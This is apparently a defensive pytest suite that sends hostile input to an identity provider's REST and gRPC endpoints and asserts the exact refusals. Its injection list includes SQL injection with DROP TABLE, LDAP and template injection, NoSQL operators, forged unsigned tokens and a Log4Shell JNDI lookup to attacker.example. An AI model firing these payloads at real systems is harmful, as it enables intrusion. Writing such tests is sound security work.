"""Hostile input against the service interfaces, over real HTTP (pytest-django's live server) and
a gRPC server on a real port, each asserting the exact refusal.

Findings of the December review reproduced here: 100,000 nested `[` made every JSON endpoint
answer 500; a NUL byte in a gRPC field came back as UNKNOWN with PostgreSQL's exception text;
every IPv6 gRPC client shared one rate-limit bucket; CheckPermission needed no credentials and
the REST authz check answered any user's token about any tenant; /metrics was open in production.
"""

from __future__ import annotations

import base64
import json
import socket
import uuid
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import grpc
import pytest
import requests

from accounts import services as accounts
from accounts.models import User
from audit.models import AuditLog
from audit.registry import AuditAction
from authproto import auth_pb2, auth_pb2_grpc
from clients.models import Organisation
from idp.api.grpc_server import build_server
from idp.oidc.models import Application
from tests.idp.oidc.conftest import make_app

pytestmark = pytest.mark.django_db(transaction=True)

PASSWORD = "input-attacks-password-1"
TOO_LARGE = {"error": "invalid_request", "error_description": "the JSON body is larger than 65536 bytes"}
TOO_DEEP = {"error": "invalid_request", "error_description": "the JSON body is nested deeper than 32 levels"}
NOT_UTF8 = {
    "error": "invalid_request",
    "error_description": "the JSON body is not UTF-8 text (RFC 8259 §8.1)",
}
NOT_AN_OBJECT = {"error": "invalid_request", "error_description": "the JSON body must be an object"}
LOGIN_REFUSED = {"error": "invalid_credentials", "error_description": "login refused"}
LOGIN_INVALID = {"error": "invalid_request", "error_description": "login and password are required"}
NOT_YOURS = {"error": "forbidden", "error_description": "the caller may not ask about this user"}
NO_TOKEN = "a valid bearer access token of this provider is required"
JSON = {"Content-Type": "application/json"}


# --- fixtures -----------------------------------------------------------------------------------


@pytest.fixture
def ivan(acme: Organisation) -> User:
    """A B2B client user of Acme: sees only themself."""
    return accounts.create_user(
        actor=None, username="ivan", password=PASSWORD, email="ivan@acme.example", organisation=acme
    )


@pytest.fixture
def gleb(globex: Organisation) -> User:
    """A user of another tenant."""
    return accounts.create_user(actor=None, username="gleb", password=PASSWORD, organisation=globex)


@pytest.fixture
def api_url(live_server: Any) -> str:
    return f"{live_server.url}/api/v1"


def _login(api_url: str, login: str = "ivan", password: str = PASSWORD) -> str:
    response = requests.post(f"{api_url}/auth/login", json={"login": login, "password": password}, timeout=10)
    assert response.status_code == 200, response.text
    return response.json()["access_token"]


@pytest.fixture
def service_token(live_server: Any) -> str:
    app, secret = make_app(name="Parcel service", grant=Application.GRANT_CLIENT_CREDENTIALS)
    response = requests.post(
        f"{live_server.url}/o/token/",
        data={"grant_type": "client_credentials"},
        auth=(app.client_id, secret),
        timeout=10,
    )
    assert response.status_code == 200, response.text
    return response.json()["access_token"]


@pytest.fixture
def grpc_server(transactional_db: None) -> Iterator[Callable[[str], int]]:
    """Starts real gRPC servers on the given bind addresses; returns each one's port."""
    servers: list[grpc.Server] = []

    def start(bind: str) -> int:
        server, port, _health = build_server(bind=bind, max_workers=4)
        server.start()
        servers.append(server)
        return port

    yield start
    for server in servers:
        server.stop(0).wait()


@pytest.fixture
def stubs() -> Iterator[Callable[[str], auth_pb2_grpc.AuthServiceStub]]:
    channels: list[grpc.Channel] = []

    def connect(target: str) -> auth_pb2_grpc.AuthServiceStub:
        channel = grpc.insecure_channel(target, options=[("grpc.enable_http_proxy", 0)])
        channels.append(channel)
        return auth_pb2_grpc.AuthServiceStub(channel)

    yield connect
    for channel in channels:
        channel.close()


def _refusal(call: Callable[[], Any]) -> tuple[grpc.StatusCode, str]:
    with pytest.raises(grpc.RpcError) as refused:
        call()
    return refused.value.code(), refused.value.details()


# --- JSON bodies (REST) -------------------------------------------------------------------------

# One door of each kind: public (login, validate), authenticated by DRF (me), by our own check (authz).
JSON_DOORS = [
    ("post", "/auth/login", False),
    ("post", "/auth/validate", False),
    ("patch", "/me", True),
    ("post", "/authz/check", True),
]


def _send(
    api_url: str, method: str, path: str, token: str | None, body: bytes, **headers: str
) -> requests.Response:
    auth = {"Authorization": f"Bearer {token}"} if token else {}
    return requests.request(
        method, f"{api_url}{path}", data=body, headers={**JSON, **auth, **headers}, timeout=30
    )


@pytest.mark.parametrize(("method", "path", "authenticated"), JSON_DOORS)
def test_100000_nested_brackets_are_a_400_not_a_500(api_url, ivan, method, path, authenticated):
    token = _login(api_url) if authenticated else None
    response = _send(api_url, method, path, token, b"[" * 100_000)
    assert (response.status_code, response.json()) == (400, TOO_LARGE)


@pytest.mark.parametrize(("method", "path", "authenticated"), JSON_DOORS)
def test_deep_nesting_under_the_size_bound_is_refused_before_parsing(
    api_url, ivan, method, path, authenticated
):
    token = _login(api_url) if authenticated else None
    for body in (b"[" * 60_000, b'{"a": ' * 33 + b"1" + b"}" * 33, b'{"login": "[[[[", "x": ' + b"[" * 40):
        response = _send(api_url, method, path, token, body)
        assert (response.status_code, response.json()) == (400, TOO_DEEP), body[:40]


def test_an_oversized_body_is_refused(api_url, ivan):
    body = json.dumps({"login": "ivan", "password": "p" * 70_000}).encode()
    response = _send(api_url, "post", "/auth/login", None, body)
    assert (response.status_code, response.json()) == (400, TOO_LARGE)
    assert not AuditLog.objects.filter(action__startswith="login").exists()  # never reached the login


@pytest.mark.parametrize(
    ("body", "charset"),
    [
        (b'{"login": "iv\xffan", "password": "x"}', None),
        (b'{"login": "\xc0\xafivan", "password": "x"}', None),  # overlong encoding of "/"
        ('{"login": "ivan", "password": "x"}'.encode("utf-16"), "utf-16"),
        ('{"login": "ivan", "password": "x"}'.encode("latin-1") + b"\xe9", "latin-1"),
    ],
)
def test_json_that_is_not_utf8_is_refused(api_url, ivan, body, charset):
    headers = {"Content-Type": f"application/json; charset={charset}"} if charset else {}
    response = _send(api_url, "post", "/auth/login", None, body, **headers)
    assert (response.status_code, response.json()) == (400, NOT_UTF8)


@pytest.mark.parametrize("body", [b"[]", b'["ivan", "pw"]', b'"ivan"', b"42", b"null", b"true"])
def test_json_that_is_not_an_object_is_refused(api_url, ivan, body):
    token = _login(api_url)
    for method, path, authenticated in JSON_DOORS:
        response = _send(api_url, method, path, token if authenticated else None, body)
        assert (response.status_code, response.json()) == (400, NOT_AN_OBJECT), path


def test_nan_and_forms_are_not_json(api_url, ivan):
    nan = _send(api_url, "post", "/auth/login", None, b'{"login": NaN, "password": "x"}')
    assert (nan.status_code, nan.json()) == (
        400,
        {"error": "invalid_request", "error_description": "the JSON body contains NaN, which is not JSON"},
    )
    form = requests.post(f"{api_url}/auth/login", data={"login": "ivan", "password": PASSWORD}, timeout=10)
    assert (form.status_code, form.json()) == (
        415,
        {
            "error": "invalid_request",
            "error_description": 'Unsupported media type "application/x-www-form-urlencoded" in request.',
        },
    )


INJECTIONS = [
    "' OR '1'='1",
    "admin'--",
    "ivan'; DROP TABLE accounts_user; --",
    '" OR ""="',
    "%' UNION SELECT password FROM accounts_user --",
    "ivan\\",
    "*)(uid=*))(|(uid=*",
    "${jndi:ldap://attacker.example/a}",
    "{{7*7}}",
]


def test_injection_shaped_logins_are_a_plain_401(api_url, ivan, settings):
    # Every attempt comes from 127.0.0.1 and half of them are at ivan: limits and lockout would
    # answer first, and they are not the point here.
    settings.IDP_RATE_LIMITS_ENABLED = False
    settings.IDP_LOCKOUT_THRESHOLD = 1000
    users = User.objects.count()
    for value in INJECTIONS:
        for body in ({"login": value, "password": PASSWORD}, {"login": "ivan", "password": value + "-pad-x"}):
            response = requests.post(f"{api_url}/auth/login", json=body, timeout=10)
            assert (response.status_code, response.json()) == (401, LOGIN_REFUSED), body
    assert User.objects.count() == users
    assert _login(api_url)  # the table and the account are intact


@pytest.mark.parametrize(
    ("body", "status", "answer"),
    [
        ({"login": "a" * 254, "password": PASSWORD}, 401, LOGIN_REFUSED),
        ({"login": "a" * 255, "password": PASSWORD}, 400, LOGIN_INVALID),
        ({"login": "ivan", "password": "p" * 5000}, 400, LOGIN_INVALID),
        ({"login": "iv\u0000an", "password": PASSWORD}, 400, LOGIN_INVALID),  # NUL: PostgreSQL's bane
        ({"login": ["ivan"], "password": {"$ne": ""}}, 400, LOGIN_INVALID),  # NoSQL-style operators
        ({"login": "ivan", "password": True}, 400, LOGIN_INVALID),
    ],
)
def test_long_odd_and_nul_login_values_are_refused_or_401(api_url, ivan, body, status, answer):
    response = requests.post(f"{api_url}/auth/login", json=body, timeout=10)
    assert (response.status_code, response.json()) == (status, answer)


def test_odd_values_in_validate_and_authz_check(api_url, ivan, service_token):
    malformed = requests.post(f"{api_url}/auth/validate", json={"token": "' OR 1=1 --"}, timeout=10)
    assert (malformed.status_code, malformed.json()) == (
        401,
        {"error": "malformed", "error_description": "not a JWS compact token"},
    )
    too_long = requests.post(f"{api_url}/auth/validate", json={"token": "a.b." + "c" * 9000}, timeout=10)
    assert (too_long.status_code, too_long.json()) == (
        400,
        {"error": "invalid_request", "error_description": "token is required"},
    )
    bearer = {"Authorization": f"Bearer {service_token}"}

    def check(**body: Any) -> requests.Response:
        return requests.post(f"{api_url}/authz/check", json=body, headers=bearer, timeout=10)

    not_a_uuid = check(userId="1' OR '1'='1", permission="parcels.parcel.read")
    assert (not_a_uuid.status_code, not_a_uuid.json()) == (
        200,
        {"allowed": False, "reason": "userId and clientId must be UUIDs"},
    )
    for body in (
        {"userId": str(ivan.id), "permission": "parcels.parcel.read' OR '1'='1"},
        {"userId": str(ivan.id), "permission": "p" * 151},
        {"userId": "x" * 65, "permission": "parcels.parcel.read"},
        {"userId": "\u0000", "permission": "parcels.parcel.read"},
        {"userId": str(ivan.id), "permission": "parcels.parcel.read", "clientId": "c" * 65},
    ):
        refused = check(**body)
        assert refused.status_code == 400, body
        assert refused.json()["error"] == "invalid_request"
        assert refused.json()["error_description"] == "the request has invalid fields"


@pytest.mark.parametrize(
    ("method", "path", "error"),
    [
        ("post", "/auth/validate", "malformed"),
        ("get", "/auth/check", "malformed"),
        ("get", "/me", "unauthorized"),
    ],
)
def test_a_token_with_a_deeply_nested_header_is_refused_not_a_500(api_url, method, path, error):
    """Not the body this time: the JOSE header of a forged bearer token, parsed before any
    signature check (with bounds: core.bounded_json)."""
    header = base64.urlsafe_b64encode(b"[" * 6000).rstrip(b"=").decode()
    token = f"{header}.e30.c2ln"
    response = requests.request(
        method,
        f"{api_url}{path}",
        json={"token": token} if method == "post" else None,
        headers={"Authorization": f"Bearer {token}"},
        timeout=10,
    )
    assert response.status_code == 401
    assert response.json()["error"] == error


def test_a_deeply_nested_id_token_hint_is_no_500(api_url):
    header = base64.urlsafe_b64encode(b"[" * 6000).rstrip(b"=").decode()
    logout = requests.get(
        f"{api_url.removesuffix('/api/v1')}/o/logout/",
        params={"id_token_hint": f"{header}.e30.c2ln"},
        allow_redirects=False,
        timeout=10,
    )
    assert logout.status_code == 400  # DOT's answer to an id_token_hint it cannot read


# --- gRPC fields --------------------------------------------------------------------------------

LOGIN = {"login": "ivan", "password": PASSWORD}
CHECK = {"user_id": str(uuid.uuid4()), "permission": "parcels.parcel.read", "client_id": str(uuid.uuid4())}
GRPC_FIELDS = [
    ("Login", auth_pb2.LoginRequest, LOGIN, "login"),
    ("Login", auth_pb2.LoginRequest, LOGIN, "password"),
    ("TokenValidate", auth_pb2.TokenValidateRequest, {"token": "a.b.c"}, "token"),
    ("CheckPermission", auth_pb2.CheckPermissionRequest, CHECK, "user_id"),
    ("CheckPermission", auth_pb2.CheckPermissionRequest, CHECK, "permission"),
    ("CheckPermission", auth_pb2.CheckPermissionRequest, CHECK, "client_id"),
]


@pytest.mark.parametrize(("method", "message", "fields", "field"), GRPC_FIELDS)
def test_grpc_nul_in_any_field_is_invalid_argument(stub, ivan, method, message, fields, field):
    request = message(**{**fields, field: fields[field][:2] + "\x00" + fields[field][2:]})
    before = AuditLog.objects.count()
    refusal = _refusal(lambda: getattr(stub, method)(request))
    assert refusal == (grpc.StatusCode.INVALID_ARGUMENT, f"field {field} contains a NUL character")
    assert AuditLog.objects.count() == before  # refused before the servicer: nothing recorded


@pytest.mark.parametrize(("method", "message", "fields", "field"), GRPC_FIELDS)
def test_grpc_oversized_fields_are_invalid_argument(stub, ivan, method, message, fields, field):
    request = message(**{**fields, field: "x" * 8193})
    before = AuditLog.objects.count()
    refusal = _refusal(lambda: getattr(stub, method)(request))
    assert refusal == (grpc.StatusCode.INVALID_ARGUMENT, f"field {field} is longer than 8192 characters")
    assert AuditLog.objects.count() == before


def test_grpc_servicers_keep_their_tighter_bounds(stub, ivan):
    refusal = _refusal(lambda: stub.Login(auth_pb2.LoginRequest(login="ivan", password="p" * 5000)))
    assert refusal == (grpc.StatusCode.INVALID_ARGUMENT, "login or password too long")


def test_grpc_bytes_that_are_not_utf8_are_invalid_argument(grpc_server, ivan):
    with grpc.insecure_channel(f"127.0.0.1:{grpc_server('127.0.0.1:0')}") as channel:
        raw = channel.unary_unary("/AuthService/Login")
        refusal = _refusal(lambda: raw(b"\n\x04iv\xffn\x12\x01p"))
    assert refusal == (
        grpc.StatusCode.INVALID_ARGUMENT,
        "the request is not a valid /AuthService/Login message",
    )


def test_grpc_injection_shaped_logins_are_a_plain_error(stub, ivan, settings):
    settings.IDP_RATE_LIMITS_ENABLED = False
    for value in INJECTIONS:
        response = stub.Login(auth_pb2.LoginRequest(login=value, password=PASSWORD))
        assert response.error == "invalid_credentials", value


# --- gRPC peers: IPv6 clients are told apart ----------------------------------------------------


def _global_ipv6_address() -> str | None:
    """An IPv6 address of this host other than ::1 (Linux), for a second IPv6 source."""
    try:
        lines = Path("/proc/net/if_inet6").read_text().splitlines()
    except OSError:
        return None
    for line in lines:
        hexaddr, _index, _prefix, scope, _flags, _name = line.split()
        if scope == "00":  # global (including unique-local); not link-local, not loopback
            address = ":".join(hexaddr[i : i + 4] for i in range(0, 32, 4))
            text = socket.inet_ntop(socket.AF_INET6, socket.inet_pton(socket.AF_INET6, address))
            with socket.socket(socket.AF_INET6) as probe:
                try:
                    probe.bind((text, 0))
                except OSError:
                    continue
            return text
    return None


def _wrong_login(stub: Any, n: int) -> Any:
    return stub.Login(auth_pb2.LoginRequest(login=f"nobody-{n}", password="wrong-password-1"))


def test_grpc_audit_records_carry_the_ipv6_address(grpc_server, stubs, ivan):
    try:
        port = grpc_server("[::1]:0")
    except OSError:
        pytest.skip("no IPv6 loopback here")
    response = stubs(f"[::1]:{port}").Login(auth_pb2.LoginRequest(login="ivan", password="wrong-password-1"))
    assert response.error == "invalid_credentials"
    assert list(AuditLog.objects.filter(action=AuditAction.LOGIN_FAILED).values_list("ip", flat=True)) == [
        "::1"
    ]


def test_two_ipv6_clients_do_not_share_a_login_rate_limit(grpc_server, stubs, settings):
    second = _global_ipv6_address()
    if second is None:
        pytest.skip("this host has no IPv6 address besides ::1")
    settings.IDP_RATE_LIMITS = {**settings.IDP_RATE_LIMITS, "login-ip": (3, 60)}
    port = grpc_server("[::]:0")
    first_client, second_client = stubs(f"[::1]:{port}"), stubs(f"[{second}]:{port}")
    for n in range(3):
        assert _wrong_login(first_client, n).error == "invalid_credentials"
    code, details = _refusal(lambda: _wrong_login(first_client, 3))
    assert code == grpc.StatusCode.RESOURCE_EXHAUSTED
    assert details.startswith("too many attempts; retry in ")
    # The other IPv6 client has a bucket of its own (before the fix both were "unknown").
    assert _wrong_login(second_client, 4).error == "invalid_credentials"
    ips = set(AuditLog.objects.filter(action=AuditAction.LOGIN_FAILED).values_list("ip", flat=True))
    assert ips == {"::1", second}


# --- the authorization API: credentials and scope -----------------------------------------------


def test_grpc_check_permission_without_credentials_is_unauthenticated(stub, ivan):
    request = auth_pb2.CheckPermissionRequest(user_id=str(ivan.id), permission="parcels.parcel.read")
    assert _refusal(lambda: stub.CheckPermission(request)) == (grpc.StatusCode.UNAUTHENTICATED, NO_TOKEN)
    forged = (("authorization", "Bearer eyJhbGciOiJub25lIn0.e30."),)
    assert _refusal(lambda: stub.CheckPermission(request, metadata=forged)) == (
        grpc.StatusCode.UNAUTHENTICATED,
        NO_TOKEN,
    )


def test_a_client_users_token_cannot_ask_about_another_tenant(api_url, stub, ivan, gleb):
    token = _login(api_url)
    metadata = (("authorization", f"Bearer {token}"),)
    for user_id in (str(gleb.id), str(uuid.uuid4())):  # another tenant's user, and no user at all
        request = auth_pb2.CheckPermissionRequest(user_id=user_id, permission="parcels.parcel.read")
        assert _refusal(lambda request=request: stub.CheckPermission(request, metadata=metadata)) == (
            grpc.StatusCode.PERMISSION_DENIED,
            NOT_YOURS["error_description"],
        )
        rest = requests.post(
            f"{api_url}/authz/check",
            json={"userId": user_id, "permission": "parcels.parcel.read"},
            headers={"Authorization": f"Bearer {token}"},
            timeout=10,
        )
        assert (rest.status_code, rest.json()) == (403, NOT_YOURS)
    anonymous = requests.post(
        f"{api_url}/authz/check",
        json={"userId": str(gleb.id), "permission": "parcels.parcel.read"},
        timeout=10,
    )
    assert (anonymous.status_code, anonymous.json()) == (
        401,
        {"error": "unauthorized", "error_description": NO_TOKEN},
    )
    assert anonymous.headers["WWW-Authenticate"] == 'Bearer error="invalid_token"'


def test_a_service_token_may_ask_about_any_tenant(api_url, stub, gleb, service_token):
    request = auth_pb2.CheckPermissionRequest(
        user_id=str(gleb.id), permission="parcels.parcel.read", client_id=str(gleb.organisation_id)
    )
    answer = stub.CheckPermission(request, metadata=(("authorization", f"Bearer {service_token}"),))
    assert (answer.allowed, answer.reason) == (True, "parcels.parcel.read held for the user's own client")


# --- /metrics -----------------------------------------------------------------------------------


def test_metrics_are_closed_in_production_without_a_token(live_server, settings):
    settings.IDP_METRICS_TOKEN = None
    settings.IDP_METRICS_PUBLIC = False  # what DEBUG=0 gives when IDP_METRICS_PUBLIC is unset
    response = requests.get(f"{live_server.url}/metrics", timeout=10)
    assert response.status_code == 403
    assert response.headers["Content-Type"].startswith("text/plain")
    assert response.text == (
        "metrics are closed: set IDP_METRICS_TOKEN (scrapers send Authorization: Bearer <token>) "
        "or IDP_METRICS_PUBLIC=1\n"
    )
    assert "idp_outbox" not in response.text
    settings.IDP_METRICS_TOKEN = "scrape-me"
    assert requests.get(f"{live_server.url}/metrics", timeout=10).status_code == 401
    scraped = requests.get(
        f"{live_server.url}/metrics", headers={"Authorization": "Bearer scrape-me"}, timeout=10
    )
    assert scraped.status_code == 200
    assert "idp_outbox_unsent_events" in scraped.text
